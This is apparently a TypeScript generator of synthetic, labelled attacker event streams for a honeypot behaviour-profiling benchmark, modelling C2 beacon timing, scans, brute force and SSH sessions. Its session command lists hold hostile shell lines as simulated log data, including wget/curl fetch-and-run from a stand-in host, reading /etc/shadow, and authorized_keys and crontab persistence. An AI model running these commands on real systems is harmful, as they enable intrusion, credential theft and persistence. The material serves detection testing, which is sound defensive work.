// Seeded generator of labelled per-attacker event streams for the behaviour benchmark
// (docs/behavior.md §6). Every stream is a pure function of the seed. Events look like what the profiler
// receives in production: our sensor's events (tcp_flow_timing with the flow's start time, TLS hellos,
// HTTP requests, SSH banners, scan summaries) and honeypot service logs (connection, request,
// login_attempt, command, download), one to three events per connection.

import { Prng } from '../../scripts/pcapgen/prng.js';
import type { C2Framework } from '../../src/profiler/attribution.js';
import type { BehaviorClass } from '../../src/profiler/classify.js';
import { BURST_GAP_S } from '../../src/profiler/episodes.js';
import { type EventSource, kindOfEventType, type ProfilerEvent } from '../../src/profiler/types.js';

/** A labelled stream. */
export interface LabelledStream {
  id: string;
  truth: BehaviorClass;
  /** Generator family, e.g. 'beacon/sliver/default', 'null/poisson', 'brute/slow'. */
  family: string;
  events: ProfilerEvent[];
  meta: StreamMeta;
}

/** Generation parameters kept for slicing the scores. */
export interface StreamMeta {
  framework?: C2Framework;
  config?: 'default' | 'non_default';
  /** Jitter as a fraction of the sleep (Sliver: J / S). */
  jitter?: number;
  law?: 'symmetric' | 'subtractive' | 'additive';
  sleep_s?: number;
  /** Episodes the stream was generated to have (check-ins observed, connections). */
  n?: number;
  p_miss?: number;
  variant?: string;
  /** Multi-phase: last login attempt → first command, seconds. */
  truth_dwell_s?: number;
}

// ---------------------------------------------------------------------------------------------------
// Random helpers

function logUniform(p: Prng, lo: number, hi: number): number {
  return Math.exp(Math.log(lo) + p.float() * (Math.log(hi) - Math.log(lo)));
}

function uniform(p: Prng, lo: number, hi: number): number {
  return lo + p.float() * (hi - lo);
}

// ---------------------------------------------------------------------------------------------------
// Event emission

const DECOYS = Array.from({ length: 64 }, (_, i) => `198.18.0.${i + 10}`);
const SERVICE_PORT: Record<string, number> = {
  ssh: 22,
  http: 80,
  https: 443,
  smtp: 25,
  telnet: 23,
  mysql: 3306,
};

/** Builds one attacker's events. */
class Stream {
  readonly events: ProfilerEvent[] = [];
  private conns = 0;
  constructor(
    readonly ip: string,
    readonly p: Prng,
  ) {}

  emit(
    ts: number,
    source: EventSource,
    eventType: string,
    fields: Omit<ProfilerEvent, 'ts' | 'src_ip' | 'kind' | 'source' | 'event_type'> = {},
  ): void {
    this.events.push({
      ts,
      src_ip: this.ip,
      kind: kindOfEventType(eventType, source),
      source,
      event_type: eventType,
      ...fields,
    });
  }

  connId(): string {
    return `${this.ip}#${++this.conns}`;
  }

  /**
   * One HTTPS/HTTP check-in or request at t lasting `dur` seconds, as `perConn` events (1: the sensor's
   * request event; 2: + the flow summary; 3: + the honeypot's request log).
   */
  webRequest(
    t: number,
    dur: number,
    perConn: number,
    o: {
      service: 'http' | 'https';
      dst: string;
      name: string;
      ua?: string;
      path?: string;
      ja4?: string;
      os?: string;
    },
  ): void {
    const c = this.connId();
    const port = SERVICE_PORT[o.service]!;
    const common = { service: o.service, dst_ip: o.dst, dst_port: port, conn_id: c };
    if (o.service === 'https') {
      this.emit(t + 0.02, 'sensor', 'tls_client_hello', {
        ...common,
        sni: o.name,
        ...(o.ja4 ? { ja4: o.ja4 } : {}),
      });
    } else {
      this.emit(t + 0.02, 'sensor', 'http_request', {
        ...common,
        host: o.name,
        ...(o.ua ? { user_agent: o.ua } : {}),
      });
    }
    if (perConn >= 2) {
      this.emit(t, 'sensor', 'tcp_flow_timing', {
        ...common,
        outcome: 'established',
        ...(o.os ? { os_guess: o.os } : {}),
      });
    }
    if (perConn >= 3) {
      this.emit(t + dur * 0.8, 'honeypot', 'request', {
        service: o.service,
        dst_ip: o.dst,
        dst_port: port,
        host: o.name,
        ...(o.ua ? { user_agent: o.ua } : {}),
      });
    }
  }

  /** An SSH connection at t: sensor flow summary and banner, honeypot connection log; returns conn id. */
  sshConnect(t: number, dst: string): string {
    const c = this.connId();
    const common = { service: 'ssh', dst_ip: dst, dst_port: 22, conn_id: c };
    this.emit(t, 'sensor', 'tcp_flow_timing', { ...common, outcome: 'established' });
    this.emit(t + 0.05, 'sensor', 'ssh_client_banner', common);
    this.emit(t + 0.1, 'honeypot', 'connection', { service: 'ssh', dst_ip: dst, dst_port: 22 });
    return c;
  }

  login(t: number, dst: string, success: boolean, username = 'root'): void {
    this.emit(t, 'honeypot', 'login_attempt', {
      service: 'ssh',
      dst_ip: dst,
      dst_port: 22,
      success,
      username,
    });
  }

  command(t: number, dst: string, text: string): void {
    this.emit(t, 'honeypot', 'command', { service: 'ssh', dst_ip: dst, dst_port: 22, command: text });
  }

  /** Payload-less probes as our sensor reports them: one scan_summary per SUMMARY_WINDOW_S of probing. */
  probes(times: readonly number[], outcomes: readonly boolean[]): void {
    let i = 0;
    while (i < times.length) {
      const start = times[i]!;
      let answered = 0;
      let failed = 0;
      let last = start;
      while (i < times.length && times[i]! - start < SUMMARY_WINDOW_S) {
        if (outcomes[i]) answered++;
        else failed++;
        last = times[i]!;
        i++;
      }
      this.emit(last, 'sensor', 'scan_summary', {
        probes: { answered, failed, first_ts: start, last_ts: last, distinct_targets: answered + failed },
      });
    }
  }
}

/** Our sensor flushes a scanning source's summary after 5 minutes of scanning (README, scan_summary). */
const SUMMARY_WINDOW_S = 300;

/** Start of the generated epoch: 2025-01-06T00:00:00Z, plus a per-stream offset. */
const EPOCH = 1_736_121_600;

function startTime(p: Prng): number {
  return EPOCH + p.int(30) * 86_400 + p.float() * 86_400;
}

// ---------------------------------------------------------------------------------------------------
// Beacons

/** A sleep/jitter configuration in a framework's own terms. */
export interface BeaconConfig {
  framework: C2Framework;
  sleep_s: number;
  /** Fraction for percentage frameworks; for Sliver, J seconds. */
  jitter: number;
}

/** The shipped defaults (docs/behavior.md §2.1). Havoc uses its havoc.yaotl profile. */
export const DEFAULT_CONFIGS: Readonly<Record<C2Framework, BeaconConfig>> = {
  cobalt_strike: { framework: 'cobalt_strike', sleep_s: 60, jitter: 0 },
  sliver: { framework: 'sliver', sleep_s: 60, jitter: 30 },
  havoc: { framework: 'havoc', sleep_s: 2, jitter: 0.15 },
  mythic_apollo: { framework: 'mythic_apollo', sleep_s: 10, jitter: 0.23 },
  mythic_poseidon: { framework: 'mythic_poseidon', sleep_s: 10, jitter: 0.23 },
  empire: { framework: 'empire', sleep_s: 5, jitter: 0 },
  poshc2: { framework: 'poshc2', sleep_s: 5, jitter: 0.2 },
  covenant: { framework: 'covenant', sleep_s: 10, jitter: 0.1 },
  meterpreter: { framework: 'meterpreter', sleep_s: 10, jitter: 0 },
};

/** Jitter law of each framework (Meterpreter: none). */
export function lawOf(f: C2Framework): 'symmetric' | 'subtractive' | 'additive' {
  return f === 'cobalt_strike' ? 'subtractive' : f === 'sliver' ? 'additive' : 'symmetric';
}

/** Draws one sleep, seconds, with the framework's own arithmetic. `state.e` is Meterpreter's empty-poll count. */
function drawSleep(p: Prng, c: BeaconConfig, state: { e: number }): number {
  const S = c.sleep_s;
  const j = c.jitter;
  switch (c.framework) {
    case 'cobalt_strike':
      return S * (1 - j * p.float());
    case 'sliver':
      return S + j * p.float();
    case 'havoc': {
      // Obf.c: S ± (rand mod j·S) milliseconds.
      const span = Math.floor(j * S * 1000);
      const off = span > 0 ? p.int(span) : 0;
      return (S * 1000 + (p.chance(0.5) ? off : -off)) / 1000;
    }
    case 'mythic_poseidon': {
      const J = Math.round(j * 100);
      const k = J > 0 ? p.int(J) : 0;
      const off = Math.floor((Math.round(S) * k) / 100);
      return k % 2 === 0 ? Math.round(S) + off : Math.round(S) - off;
    }
    case 'empire': {
      if (j === 0) return S;
      const lo = Math.ceil((1 - j) * S);
      const hi = Math.floor((1 + j) * S);
      return hi > lo ? lo + p.int(hi - lo) : lo; // Get-Random -Maximum is exclusive
    }
    case 'meterpreter': {
      const e = state.e++;
      return e < 10 ? 0.01 * e : Math.min(10, 0.1 * e);
    }
    default:
      return S * (1 + j * (2 * p.float() - 1));
  }
}

/** A non-default configuration: sleep log-uniform 5 s–1 h, jitter 0–80 % in the framework's law, kept
 *  away from the default (sleep within 10 % and jitter within 5 points of it is redrawn). */
export function randomConfig(p: Prng, f: C2Framework): BeaconConfig {
  const d = DEFAULT_CONFIGS[f];
  for (;;) {
    const S =
      f === 'havoc' || f === 'empire' || f === 'mythic_poseidon'
        ? Math.round(logUniform(p, 5, 3600))
        : logUniform(p, 5, 3600);
    const jf = p.float() * 0.8;
    const jitter = f === 'sliver' ? jf * S : f === 'mythic_poseidon' ? Math.round(jf * 100) / 100 : jf;
    const dj = f === 'sliver' ? Math.abs(jitter / S - d.jitter / d.sleep_s) : Math.abs(jitter - d.jitter);
    if (Math.abs(S - d.sleep_s) / d.sleep_s < 0.1 && dj < 0.05) continue;
    return { framework: f, sleep_s: S, jitter };
  }
}

export interface BeaconOptions {
  n: number;
  pMiss: number;
  perConn: number;
  variant?: 'task_burst' | 'sleep_change' | 'working_hours';
}

/** Realistic header/TLS evidence of a framework default (docs/behavior.md §3.1). */
const FRAMEWORK_UA: Partial<Record<C2Framework, string>> = {
  empire: 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
  mythic_apollo: 'Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko',
  mythic_poseidon: 'Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko',
  poshc2:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36',
};

/** One beacon stream: `n` observed check-ins of configuration `c`. Timing-only (no header evidence) unless asked. */
export function beaconStream(
  p: Prng,
  ip: string,
  c: BeaconConfig,
  o: BeaconOptions,
  withEvidence = false,
): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  const name = `cdn${p.int(1000)}.example.net`;
  const service =
    c.framework === 'empire' || c.framework === 'meterpreter' || p.chance(0.3) ? 'http' : 'https';
  const baseDur = uniform(p, 0.05, 0.6);
  const ua = withEvidence ? FRAMEWORK_UA[c.framework] : undefined;
  const state = { e: c.framework === 'meterpreter' ? 10 + p.int(140) : 0 };
  let cfg = c;
  let t = startTime(p);
  let seen = 0;
  let burstLeft = 0;
  const burstAt = o.variant === 'task_burst' ? 1 + p.int(Math.max(1, o.n - 2)) : -1;
  const changeAt = o.variant === 'sleep_change' ? Math.floor(o.n / 2) : -1;
  const pauseAt = o.variant === 'working_hours' ? 1 + p.int(Math.max(1, o.n - 2)) : -1;
  while (seen < o.n) {
    const dur = baseDur + 0.1 * p.float();
    if (burstLeft > 0) {
      // Task burst: the operator set sleep 0 while tasking; check-ins follow each other back to back
      // (and collapse into the episode of the check-in that started the burst).
      s.webRequest(t, dur, o.perConn, { service, dst, name, ...(ua ? { ua } : {}) });
      burstLeft--;
      t += dur + uniform(p, 0.05, 0.3);
      continue;
    }
    if (!p.chance(o.pMiss) || seen === 0) {
      s.webRequest(t, dur, o.perConn, { service, dst, name, ...(ua ? { ua } : {}) });
      seen++;
      if (seen === burstAt) burstLeft = 5 + p.int(25);
      if (seen === changeAt)
        cfg = { ...cfg, sleep_s: cfg.sleep_s * (p.chance(0.5) ? uniform(p, 0.2, 0.5) : uniform(p, 2, 5)) };
      if (seen === pauseAt) t += uniform(p, 8, 16) * 3600;
    }
    if (burstLeft > 0) {
      t += dur + uniform(p, 0.05, 0.3);
      continue;
    }
    t += dur + drawSleep(p, cfg, state);
  }
  return s.events;
}

// ---------------------------------------------------------------------------------------------------
// Memoryless and bursty nulls

/** Poisson connections (mean gap `meanGap`) until `n` connections, 1–3 events each: HTTP(S) requests. */
export function poissonStream(
  p: Prng,
  ip: string,
  n: number,
  meanGap: number,
  perConn: number,
): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  const service = p.chance(0.5) ? 'http' : 'https';
  let t = startTime(p);
  for (let i = 0; i < n; i++) {
    s.webRequest(t, uniform(p, 0.05, 0.5), perConn, { service, dst, name: 'www.example.org' });
    t += p.exp(meanGap);
  }
  return s.events;
}

/** Bursty browsing: hyper-exponential gaps (70 % mean 3 s, 30 % mean 5 min), `n` connections. */
export function burstyStream(p: Prng, ip: string, n: number, perConn: number): ProfilerEvent[] {
  return browsingStream(p, ip, n, perConn, () => (p.chance(0.7) ? p.exp(3) : p.exp(300)));
}

/** Heavy-tailed gaps with a floor: Pareto(α = 1.5, scale 2 s) — less variable than Poisson in log-gaps,
 *  and not periodic. */
export function heavyTailedStream(p: Prng, ip: string, n: number, perConn: number): ProfilerEvent[] {
  return browsingStream(p, ip, n, perConn, () => 2 / (1 - p.float()) ** (1 / 1.5));
}

function browsingStream(p: Prng, ip: string, n: number, perConn: number, gap: () => number): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  let t = startTime(p);
  for (let i = 0; i < n; i++) {
    s.webRequest(t, uniform(p, 0.05, 0.5), perConn, {
      service: 'http',
      dst,
      name: 'www.example.org',
      ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    });
    t += gap();
  }
  return s.events;
}

// ---------------------------------------------------------------------------------------------------
// Sessions

const DISCOVERY = [
  'uname -a',
  'id',
  'whoami',
  'cat /proc/cpuinfo',
  'free -m',
  'w',
  'uptime',
  'nproc',
  'ps aux',
  'df -h',
];
const EXECUTION = [
  'chmod +x x.sh',
  './x.sh',
  'sh x.sh',
  'cd /tmp',
  'ls -la',
  'echo ok',
  'kill -9 1234',
  'rm -rf x.sh',
];
const PAYLOAD = [
  'wget http://203.0.113.9/x.sh',
  'curl -O http://203.0.113.9/bins.sh',
  'tftp -g -r m 203.0.113.9',
];
const PERSIST = [
  'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
  'crontab -l',
  '(crontab -l; echo "@reboot /tmp/x") | crontab -',
];
const COLLECT = ['cat /etc/shadow', 'cat ~/.bash_history', 'tar czf /tmp/h.tgz /home'];

function commandList(p: Prng, n: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const r = p.float();
    out.push(
      r < 0.4
        ? p.pick(DISCOVERY)
        : r < 0.7
          ? p.pick(EXECUTION)
          : r < 0.82
            ? p.pick(PAYLOAD)
            : r < 0.92
              ? p.pick(PERSIST)
              : p.pick(COLLECT),
    );
  }
  return out;
}

/** A session: login (after `failures` failed tries), then commands at the gaps `gap()` produces. */
function session(
  s: Stream,
  t0: number,
  dst: string,
  failures: number,
  nCmd: number,
  gap: () => number,
): number {
  let t = t0;
  s.sshConnect(t, dst);
  t += uniform(s.p, 0.5, 2);
  for (let i = 0; i < failures; i++) {
    s.login(t, dst, false, s.p.pick(['root', 'admin', 'ubuntu']));
    t += uniform(s.p, 1, 4);
  }
  s.login(t, dst, true);
  for (const cmd of commandList(s.p, nCmd)) {
    t += gap();
    s.command(t, dst, cmd);
    if (/wget|curl|tftp/.test(cmd))
      s.emit(t + uniform(s.p, 0.3, 3), 'honeypot', 'download', {
        service: 'ssh',
        dst_ip: dst,
        dst_port: 22,
        bytes: 10_000 + s.p.int(2_000_000),
      });
  }
  return t;
}

/** A human at the keyboard: log-normal think times (median 6 s, σ = 1.0; docs/behavior.md §1.6). */
export function humanStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  session(
    s,
    startTime(p),
    p.pick(DECOYS),
    p.chance(0.3) ? 1 : 0,
    5 + p.int(26),
    () => 6 * Math.exp(p.normal()),
  );
  return s.events;
}

/** A script: 1–3 logins (the last succeeds), whole commands at a fixed small delay. */
export function scriptedStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const d = uniform(p, 0.05, 1);
  session(s, startTime(p), p.pick(DECOYS), p.int(3), 3 + p.int(18), () => d * (1 + 0.05 * p.normal()));
  return s.events;
}

/** An LLM agent: pasted commands 2–30 s apart (docs/behavior.md §4.6). */
export function agentStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  session(s, startTime(p), p.pick(DECOYS), 0, 4 + p.int(12), () => uniform(p, 2, 30));
  return s.events;
}

// ---------------------------------------------------------------------------------------------------
// Scans and brute force

/** A fast scan: a port sweep of one decoy or an address sweep of one port, 100–5000 probes/s. */
export function scanStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  let t = startTime(p);
  const rate = logUniform(p, 100, 5000);
  const portSweep = p.chance(0.5);
  const targets = portSweep ? 50 + p.int(1950) : 24 + p.int(232);
  const openShare = portSweep ? uniform(p, 0.005, 0.05) : uniform(p, 0.05, 0.3);
  const times: number[] = [];
  const outcomes: boolean[] = [];
  const dst = p.pick(DECOYS);
  const grab = p.chance(0.5);
  const ua = p.pick([
    { text: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', tool: 'nmap' },
    { text: 'Mozilla/5.0 zgrab/0.x', tool: 'zgrab' },
    { text: 'ivre-masscan/1.3 https://github.com/robertdavidgraham/', tool: 'masscan' },
  ]);
  for (let i = 0; i < targets; i++) {
    t += p.exp(1 / rate);
    const open = p.chance(openShare);
    times.push(t);
    outcomes.push(open);
    if (open && grab) {
      const to = portSweep ? dst : p.pick(DECOYS);
      s.emit(t + 0.2, 'honeypot', 'connection', { service: 'http', dst_ip: to, dst_port: 80 });
      s.emit(t + 0.3, 'honeypot', 'request', {
        service: 'http',
        dst_ip: to,
        dst_port: 80,
        user_agent: ua.text,
        tool: ua.tool,
        tool_category: 'scanner',
      });
    }
  }
  s.probes(times, outcomes);
  return s.events;
}

/** A slow scan: one probe every 30–300 s (never 15 in 5 min), 20–100 mostly closed targets. */
export function slowScanStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  let t = startTime(p);
  const spacing = uniform(p, 30, 300);
  const targets = 20 + p.int(81);
  const times: number[] = [];
  const outcomes: boolean[] = [];
  for (let i = 0; i < targets; i++) {
    t += spacing * uniform(p, 0.5, 1.5);
    times.push(t);
    outcomes.push(p.chance(0.08));
  }
  // Our sensor reports a quiet source after its flows time out: one summary per probe here.
  for (let i = 0; i < times.length; i++) s.probes([times[i]!], [outcomes[i]!]);
  return s.events;
}

/** A fast brute-forcer (hydra-like): 4–16 parallel connections, 3–6 tries each, 20–500 tries. */
export function bruteFastStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  const threads = 4 + p.int(13);
  const total = 20 + p.int(481);
  const t0 = startTime(p);
  const clocks = Array.from({ length: threads }, () => t0 + p.float());
  for (let done = 0; done < total; ) {
    const th = p.int(threads);
    let t = clocks[th]!;
    s.sshConnect(t, dst);
    const tries = 3 + p.int(4);
    for (let k = 0; k < tries && done < total; k++, done++) {
      t += uniform(p, 0.3, 2);
      s.login(t, dst, false, p.pick(['root', 'admin', 'test', 'oracle', 'pi']));
    }
    clocks[th] = t + uniform(p, 0.1, 0.5);
  }
  return s.events;
}

/** A rate-limited brute-forcer: one try per connection every 10–60 s ± 10 %, 8–60 tries. */
export function bruteSlowStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  const delay = uniform(p, 10, 60);
  let t = startTime(p);
  const total = 8 + p.int(53);
  for (let i = 0; i < total; i++) {
    s.sshConnect(t, dst);
    s.login(t + uniform(p, 0.3, 0.8), dst, false);
    t += delay * (1 + 0.1 * (2 * p.float() - 1));
  }
  return s.events;
}

/** One member of a distributed low-and-slow campaign: 5–12 tries, minutes to hours apart. */
export function bruteDistributedStream(p: Prng, ip: string): ProfilerEvent[] {
  const s = new Stream(ip, p);
  let t = startTime(p);
  const total = 5 + p.int(8);
  for (let i = 0; i < total; i++) {
    const dst = p.pick(DECOYS);
    s.sshConnect(t, dst);
    s.login(t + uniform(p, 0.3, 0.8), dst, false, p.pick(['root', 'admin', 'git']));
    t += logUniform(p, 600, 7200);
  }
  return s.events;
}

// ---------------------------------------------------------------------------------------------------
// Periodic benign

const MEASUREMENT_UAS = [
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day',
  'Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)',
];
const CRAWLER_UAS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
];

/** A research scanner revisiting every 1–24 h: each visit sweeps 10–100 ports, grabbing banners. */
export function researchScannerStream(p: Prng, ip: string, visits: number): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const period = logUniform(p, 3600, 86_400);
  const dst = p.pick(DECOYS);
  const ua = p.chance(0.5) ? p.pick(MEASUREMENT_UAS) : undefined;
  let t = startTime(p);
  for (let v = 0; v < visits; v++) {
    const ports = 10 + p.int(91);
    const times: number[] = [];
    const outcomes: boolean[] = [];
    let u = t;
    for (let i = 0; i < ports; i++) {
      u += p.exp(0.5);
      times.push(u);
      outcomes.push(p.chance(0.1));
    }
    s.probes(times, outcomes);
    if (ua !== undefined)
      s.emit(u + 1, 'honeypot', 'request', { service: 'http', dst_ip: dst, dst_port: 80, user_agent: ua });
    t += period * (1 + 0.02 * (2 * p.float() - 1));
  }
  return s.events;
}

/** A crawler fetching / and /robots.txt every 1–24 h, saying who it is. */
export function crawlerStream(p: Prng, ip: string, visits: number): ProfilerEvent[] {
  const s = new Stream(ip, p);
  const period = logUniform(p, 3600, 86_400);
  const dst = p.pick(DECOYS);
  const ua = p.pick(CRAWLER_UAS);
  let t = startTime(p);
  for (let v = 0; v < visits; v++) {
    s.webRequest(t, 0.2, 3, { service: 'http', dst, name: 'www.example.org', ua, path: '/robots.txt' });
    s.webRequest(t + uniform(p, 0.3, BURST_GAP_S - 0.1), 0.2, 2, {
      service: 'http',
      dst,
      name: 'www.example.org',
      ua,
      path: '/',
    });
    t += period * (1 + 0.05 * (2 * p.float() - 1));
  }
  return s.events;
}

// ---------------------------------------------------------------------------------------------------
// Multi-phase

/** Scan → brute force → session → download, sometimes followed by a re-scan (docs/behavior.md §6). */
export function multiPhaseStream(p: Prng, ip: string): { events: ProfilerEvent[]; dwell: number } {
  const s = new Stream(ip, p);
  const dst = p.pick(DECOYS);
  let t = startTime(p);
  const times: number[] = [];
  const outcomes: boolean[] = [];
  const ports = 100 + p.int(901);
  for (let i = 0; i < ports; i++) {
    t += p.exp(0.002);
    times.push(t);
    outcomes.push(p.chance(0.01));
  }
  s.probes(times, outcomes);
  t += uniform(p, 5, 600);
  // Brute force with parallel connections.
  const tries = 10 + p.int(91);
  let lastTry = t;
  for (let i = 0; i < tries; i += 4) {
    s.sshConnect(t, dst);
    for (let k = 0; k < 4 && i + k < tries; k++) {
      t += uniform(p, 0.3, 1.5);
      s.login(t, dst, false);
      lastTry = t;
    }
  }
  t += uniform(p, 1, 60);
  s.sshConnect(t, dst);
  t += 0.5;
  s.login(t, dst, true);
  lastTry = t;
  const cmds = [
    'uname -a',
    ...commandList(p, 3 + p.int(10)),
    'wget http://203.0.113.9/x.sh',
    'chmod +x x.sh',
    './x.sh',
  ];
  const firstGap = uniform(p, 1, 20);
  t += firstGap;
  const dwell = t - lastTry;
  for (const c of cmds) {
    s.command(t, dst, c);
    if (/wget|curl|tftp/.test(c))
      s.emit(t + 1, 'honeypot', 'download', { service: 'ssh', dst_ip: dst, dst_port: 22, bytes: 500_000 });
    t += uniform(p, 0.2, 8);
  }
  if (p.chance(0.3)) {
    // A re-scan after the compromise (checking the backdoor and the neighbours).
    t += uniform(p, 60, 3600);
    const again: number[] = [];
    for (let i = 0; i < 50; i++) {
      t += 0.01;
      again.push(t);
    }
    s.probes(
      again,
      again.map(() => false),
    );
    s.emit(t + 0.5, 'honeypot', 'connection', { service: 'ssh', dst_ip: dst, dst_port: 22 });
  }
  return { events: s.events, dwell };
}

// ---------------------------------------------------------------------------------------------------
// Suite

/** A fresh generator for one stream: streams are independent of each other's random draws. */
export function streamPrng(seed: number, index: number): Prng {
  return new Prng(seed * 1_000_003 + index);
}

/** A unique attacker address for stream `i` (10.0.0.0/8). */
export function attackerIp(i: number): string {
  return `10.${(i >>> 16) & 255}.${(i >>> 8) & 255}.${i & 255}`;
}
